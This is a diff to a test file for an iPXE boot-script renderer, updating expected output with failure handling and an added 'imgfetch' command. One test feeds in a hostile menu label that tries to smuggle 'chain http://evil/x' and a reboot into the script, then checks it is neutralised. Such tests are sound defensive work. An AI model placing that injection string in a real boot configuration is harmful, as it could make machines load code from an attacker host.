@@ -47,6 +47,7 @@ const COMMANDS = new Set([
   'set',
   'iseq',
   'imgfree',
+  'imgfetch',
   'kernel',
   'initrd',
   'boot',
@@ -105,7 +106,7 @@ describe('renderIpxeScript', () => {
     expect(script).toContain(
       'initrd --name initramfs-linux.img http://192.168.1.10:8080/iso/s1/arch/boot/x86_64/initramfs-linux.img',
     );
-    expect(script).toMatch(/:bd-e0\necho Booting a\nimgfree\nkernel /);
+    expect(script).toMatch(/:bd-e0\nset bd-entry s1:a\necho Booting a\nimgfree\nkernel /);
     expect(script).toContain('boot || goto bd-failed');
   });
 
@@ -132,7 +133,7 @@ describe('renderIpxeScript', () => {
     expect(item).toBe('item bd-e0 Evil shell , chain http://evil/x | reboot $ {net0/mac} c');
     expect(script).not.toContain('${net0');
     const kernel = lines.find((l) => l.startsWith('kernel'))!;
-    expect(kernel.endsWith('ip=dhcp z quiet shell reboot')).toBe(true);
+    expect(kernel.endsWith('ip=dhcp z quiet shell reboot || goto bd-failed')).toBe(true);
     expect(lines.filter((l) => l === 'shell')).toHaveLength(1); // only our own shell entry
   });
 
@@ -186,7 +187,7 @@ describe('renderIpxeScript', () => {
     lint(script);
     expect(script).toContain('sanboot --no-describe http://192.168.1.10:8080/iso/s1.iso || goto bd-failed');
     expect(script).toContain(
-      'kernel http://192.168.1.10:8080/loaders/memdisk iso raw\ninitrd http://192.168.1.10:8080/iso/s1.iso',
+      'kernel http://192.168.1.10:8080/loaders/memdisk iso raw || goto bd-failed\ninitrd http://192.168.1.10:8080/iso/s1.iso || goto bd-failed',
     );
   });
 
